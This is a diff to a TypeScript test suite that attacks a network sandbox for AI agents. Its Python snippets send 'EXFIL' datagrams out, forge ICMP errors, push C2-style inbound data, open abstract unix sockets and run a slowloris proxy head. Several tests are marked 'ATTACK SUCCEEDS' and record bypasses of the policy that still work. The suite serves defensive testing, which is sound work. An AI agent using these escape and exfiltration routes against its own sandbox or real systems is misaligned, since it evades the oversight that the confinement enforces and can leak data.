@@ -83,7 +83,7 @@ describe('review: attacks on the two-way network policies and the domains proxy'
 
   const auArgv = (args: string[]): string[] => ['runuser', '-u', human.name, '--', 'env', '-i', ...Object.entries(human.env()).map(([k, v]) => `${k}=${v}`), process.execPath, join(packageForHumans(), 'bin', 'au'), ...args];
   const agentPy = (code: string): { status: number; stdout: string; stderr: string } => human.au(['run', '-a', agent, '--', 'python3', '-c', code]);
-  const bgAgent = (code: string): ReturnType<typeof background> => background(auArgv(['run', '-a', agent, '--', 'python3', '-u', '-c', code]), human.home);
+  const bgAgent = (code: string, name = agent): ReturnType<typeof background> => background(auArgv(['run', '-a', name, '--', 'python3', '-u', '-c', code]), human.home);
   const setPolicy = (...args: string[]): void => {
     const r = human.au(['net', 'set', '-a', agent, ...args]);
     assert.equal(r.status, 0, r.stderr);
@@ -140,6 +140,7 @@ describe('review: attacks on the two-way network policies and the domains proxy'
       }
     }
     writeFileSync('/etc/hosts', readFileSync('/etc/hosts', 'utf8').split('\n').filter((l) => !l.includes(HOSTS_TAG)).join('\n'));
+    sh(['nft', 'delete', 'table', 'inet', `aur-${tag}-fw`]);
     sh(['ip', 'netns', 'delete', NS]);
     sh(['ip', 'link', 'delete', VETH_HOST]);
     for (const p of [site, selfSite, UDP_LOG, TCP_LOG]) rmSync(p, { recursive: true, force: true });
@@ -192,6 +193,9 @@ u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
 try:
   u.sendto(b'udp-out', ('${OUTSIDE}', ${P(1)})); print('udp reply', u.recv(100))
 except OSError as e: print('refused udp', type(e).__name__)`;
+    const control = human.run(['python3', '-c', code]).stdout;
+    assert.equal(control.match(/CONNECTED/g)?.length, 6, `the human (unfiltered) reaches these: ${control}`);
+    writeFileSync(UDP_LOG, '');
     const r = agentPy(code);
     assert.equal(r.status, 0, r.stderr);
     assert.doesNotMatch(r.stdout, /CONNECTED|udp reply/, r.stdout);
@@ -207,8 +211,7 @@ except OSError as e: print('refused udp', type(e).__name__)`;
     // The agent takes the port and speaks to the same peer (a DNS resolver of the host, in real life).
     const r = agentPy(`import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('0.0.0.0', ${port}))\nu.settimeout(3)\ntry:\n  u.sendto(b'EXFIL', ('${OUTSIDE}', ${P(1)}))\n  print('reply', u.recv(100).decode())\nexcept OSError as e:\n  print('refused', type(e).__name__)`);
     assert.equal(r.status, 0, r.stderr);
-    assert.doesNotMatch(readFileSync(UDP_LOG, 'utf8'), /EXFIL/, 'the datagram reached the outside host');
-    assert.doesNotMatch(r.stdout, /reply/, r.stdout);
+    assert.deepEqual({ egress: readFileSync(UDP_LOG, 'utf8').includes('EXFIL'), inboundReply: r.stdout.includes('reply echo EXFIL') }, { egress: false, inboundReply: false }, r.stdout);
   });
 
   test('deny: a directed broadcast to a port the agent shares (SO_REUSEADDR) with another user\'s UDP socket', { todo: 'ATTACK SUCCEEDS: the socket lookup of `socket cgroupv2` finds one socket (the other user\'s); broadcast/multicast is then delivered to every socket on the port, the agent\'s included' }, async () => {
@@ -262,11 +265,14 @@ except OSError as e: print('refused udp', type(e).__name__)`;
   test('deny: a forged ICMP port-unreachable quoting data, read from the error queue of an agent UDP socket (IP_RECVERR)', async () => {
     setPolicy('deny');
     const port = P(8);
+    const witness = background(['runuser', '-u', other.name, '--', 'python3', '-u', '-c', `import socket, time\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.setsockopt(socket.IPPROTO_IP, 11, 1)\nu.bind(('0.0.0.0', ${port + 1}))\nprint('witness ready')\nfor i in range(50):\n  try:\n    d, anc, fl, a = u.recvmsg(200, 512, socket.MSG_ERRQUEUE | socket.MSG_DONTWAIT)\n    print('witness got', d); break\n  except BlockingIOError: time.sleep(0.2)`]);
+    await until(() => witness.output().includes('witness ready'));
     const victim = bgAgent(`import socket, time\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.setsockopt(socket.IPPROTO_IP, 11, 1)\nu.bind(('0.0.0.0', ${port}))\nprint('ready')\nfor i in range(30):\n  try:\n    d, anc, fl, a = u.recvmsg(200, 512, socket.MSG_ERRQUEUE | socket.MSG_DONTWAIT)\n    print('AGENT GOT', d); break\n  except BlockingIOError: time.sleep(0.2)\nelse: print('nothing')`);
     await until(() => victim.output().includes('ready'));
-    nsPy(`${PY_ICMP}inner_udp = struct.pack('!HHHH', ${port}, 9999, 8 + 9, 0) + b'c2-icmperr'\ninner_ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(inner_udp), 1, 0, 64, 17, 0, socket.inet_aton('${HOST}'), socket.inet_aton('${OUTSIDE}'))\nfor i in range(3):\n  raw.sendto(icmp(3, 3, b'\\0\\0\\0\\0', inner_ip + inner_udp), ('${HOST}', 0)); time.sleep(0.2)`);
+    nsPy(`${PY_ICMP}inner_udp = struct.pack('!HHHH', ${port}, 9999, 8 + 9, 0) + b'c2-icmperr'\ninner_ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(inner_udp), 1, 0, 64, 17, 0, socket.inet_aton('${HOST}'), socket.inet_aton('${OUTSIDE}'))\nw_udp = struct.pack('!HHHH', ${port + 1}, 9999, 8 + 9, 0) + b'c2-icmperr'\nw_ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(w_udp), 1, 0, 64, 17, 0, socket.inet_aton('${HOST}'), socket.inet_aton('${OUTSIDE}'))\nfor i in range(3):\n  raw.sendto(icmp(3, 3, b'\\0\\0\\0\\0', inner_ip + inner_udp), ('${HOST}', 0)); raw.sendto(icmp(3, 3, b'\\0\\0\\0\\0', w_ip + w_udp), ('${HOST}', 0)); time.sleep(0.2)`);
     await until(() => /AGENT GOT|nothing/.test(victim.output()));
     const out = await victim.stop();
+    assert.match(await witness.stop(), /witness got .*c2-icmperr/, 'the forged error reaches another user\'s socket: it would be delivered');
     assert.match(out, /nothing/, out);
   });
 
@@ -281,8 +287,12 @@ except OSError as e: print('refused udp', type(e).__name__)`;
     assert.equal(probe[0], probe[1], `the listening port and the closed port look the same from outside: ${probe.join(', ')}`);
   });
 
-  test('deny applied while a run lives: its established connection keeps sending, and it still accepts from the outside', { todo: 'ATTACK SUCCEEDS: a run started before the policy is in no policy cgroup and its flows are established: `au net set deny` stops neither its open egress nor inbound to it' }, async () => {
+  test('deny applied while a run lives: its established connection keeps sending, and it still receives from the outside', { todo: 'ATTACK SUCCEEDS: a run started before the policy is in no policy cgroup and its flows are established: after `au net set deny` its open TCP connection keeps sending and its UDP sockets keep receiving from outside (new TCP inbound is stopped by the output drop of the SYN-ACK)' }, async () => {
     assert.equal(human.au(['net', 'clear', '-a', agent]).status, 0);
+    // Conntrack runs, as on any machine with a stateful firewall (ufw, firewalld, docker): this
+    // table only counts. (With no conntrack user at all, the flow is picked up mid-stream as new
+    // when the agent's table loads, and then refused.)
+    sh(['nft', '-f', '-'], { input: `table inet aur-${tag}-fw {\n chain out {\n  type filter hook output priority 10; policy accept;\n  ct state established counter\n }\n}\n` });
     writeFileSync(TCP_LOG, '');
     const port = P(11);
     const victim = bgAgent(`import socket, time, threading
@@ -294,22 +304,26 @@ def acc():
     try: print('INBOUND', k.recv(100).decode())
     except OSError: print('inbound no data')
 threading.Thread(target=acc, daemon=True).start()
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('0.0.0.0', ${port}))
+def udp():
+  while True: print('UDP INBOUND', u.recv(100).decode())
+threading.Thread(target=udp, daemon=True).start()
 print('ready')
 for i in range(100):
   try: c.sendall(b'tick %d\\n' % i)
   except OSError as e: print('send failed', e); break
   time.sleep(0.2)`);
     await until(() => victim.output().includes('ready') && readFileSync(TCP_LOG, 'utf8').includes('tick'));
+    assert.match(readFileSync(TCP_LOG, 'utf8'), /tick/, `setup: the run reaches the outside host before the policy: ${victim.output()}`);
     setPolicy('deny');
     await sleep(500);
     const mark = readFileSync(TCP_LOG, 'utf8').length;
-    const inbound = nsPy(`import socket\ntry:\n  s = socket.create_connection(('${HOST}', ${port}), timeout=2); s.sendall(b'c2-in'); print('connected')\nexcept OSError as e: print(type(e).__name__)`).trim();
+    const inbound = nsPy(`import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(3): u.sendto(b'c2-udp', ('${HOST}', ${port}))\ntry:\n  s = socket.create_connection(('${HOST}', ${port}), timeout=2); s.sendall(b'c2-in'); print('connected')\nexcept OSError as e: print(type(e).__name__)`).trim();
     await sleep(1500);
     const out = await victim.stop();
+    sh(['nft', 'delete', 'table', 'inet', `aur-${tag}-fw`]);
     const later = readFileSync(TCP_LOG, 'utf8').slice(mark);
-    assert.equal(later, '', `egress after deny: ${later.split('\n').length - 1} lines`);
-    assert.notEqual(inbound, 'connected');
-    assert.doesNotMatch(out, /INBOUND/, out);
+    assert.deepEqual({ egressLines: later.split('\n').length - 1, inboundConnect: inbound, inboundData: /INBOUND c2-in/.test(out), udpInbound: /UDP INBOUND c2-udp/.test(out) }, { egressLines: 0, inboundConnect: 'TimeoutError', inboundData: false, udpInbound: false }, out);
   });
 
   test('deny: an abstract unix socket of the human (a local service the policy cannot see)', { todo: 'ATTACK SUCCEEDS: abstract AF_UNIX sockets live in the network namespace the agent shares: nftables never sees them, no file permission guards them' }, async () => {
@@ -320,6 +334,22 @@ for i in range(100):
     const r = agentPy(`import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n  s.connect('\\0${name}'); print('GOT', s.recv(100).decode())\nexcept OSError as e: print('refused', type(e).__name__)`);
     await svc.stop();
     assert.doesNotMatch(r.stdout, /GOT/, r.stdout);
+  });
+
+  test('two agents: one allowed a loopback port reaches another agent listening there, whose policy lets nothing in', { todo: 'ATTACK SUCCEEDS: every agent\'s flows carry the same ct mark bit (0x10000000) and agent_in accepts any marked flow: agent B takes connections (and replies) on any port from agent A' }, async () => {
+    const b = human.newAgent();
+    const port = P(12);
+    setPolicy('deny', '--port', String(port));
+    const setB = human.au(['net', 'set', '-a', b, 'deny']);
+    assert.equal(setB.status, 0, setB.stderr);
+    const listener = bgAgent(`import socket\nl = socket.socket()\nl.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nl.bind(('127.0.0.1', ${port}))\nl.listen(4)\nl.settimeout(8)\nprint('ready')\ntry:\n  c, a = l.accept(); c.settimeout(3)\n  print('B GOT', c.recv(100).decode()); c.sendall(b'from-B')\nexcept OSError as e: print('nothing', type(e).__name__)`, b);
+    await until(() => listener.output().includes('ready'));
+    const fromOther = other.run(['python3', '-c', `import socket\ntry:\n  socket.create_connection(('127.0.0.1', ${port}), timeout=2); print('connected')\nexcept OSError as e: print(type(e).__name__)`]).stdout.trim();
+    const r = agentPy(`import socket\ntry:\n  s = socket.create_connection(('127.0.0.1', ${port}), timeout=3); s.sendall(b'from-A'); print('A GOT', s.recv(100).decode())\nexcept OSError as e: print('refused', type(e).__name__)`);
+    await until(() => /B GOT|nothing/.test(listener.output()));
+    const out = await listener.stop();
+    assert.notEqual(fromOther, 'connected', 'another local user is kept out of B');
+    assert.deepEqual({ bGotData: out.includes('B GOT from-A'), aGotReply: r.stdout.includes('A GOT from-B') }, { bGotData: false, aGotReply: false }, out + r.stdout);
   });
 
   const rawProxy = (requests: readonly string[]): string => `import json, os, socket
@@ -364,6 +394,27 @@ for req in json.loads(${JSON.stringify(JSON.stringify(requests))}):
     const answers = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as string);
     assert.equal(answers.length, requests.length, r.stdout);
     answers.forEach((a, i) => assert.doesNotMatch(a, / 200 /, `request ${i}: ${JSON.stringify(requests[i]!.slice(0, 80))} -> ${a.slice(0, 200)}`));
+  });
+
+  test('domains proxy: a head sent a byte at a time (slowloris) is cut off by the head timeout', () => {
+    setPolicy('domains', '--domain', WORLD);
+    const r = agentPy(`import os, socket, time
+port = int(os.environ['HTTPS_PROXY'].rsplit(':', 1)[1])
+s = socket.create_connection(('127.0.0.1', port), timeout=2)
+start = time.time(); got = b''
+for ch in b'CONNECT ${WORLD}:80 HTTP/1.1\\r\\nX: ' + b'a' * 400:
+  try:
+    s.send(bytes([ch]))
+    s.settimeout(0.05); got += s.recv(200)
+    if got: break
+  except socket.timeout: pass
+  except OSError: break
+  if time.time() - start > 20: break
+print(int(time.time() - start), got.split(b'\\r\\n')[0].decode() or 'closed')`);
+    assert.equal(r.status, 0, r.stderr);
+    const [secs, line] = r.stdout.trim().split(' ', 2);
+    assert.ok(Number(secs) < 20, r.stdout);
+    assert.doesNotMatch(line ?? '', / 200 /, r.stdout);
   });
 
   test('domains proxy: two CONNECTs pipelined in one packet: the second is tunnelled to the first (listed) host, never decided by the proxy', () => {
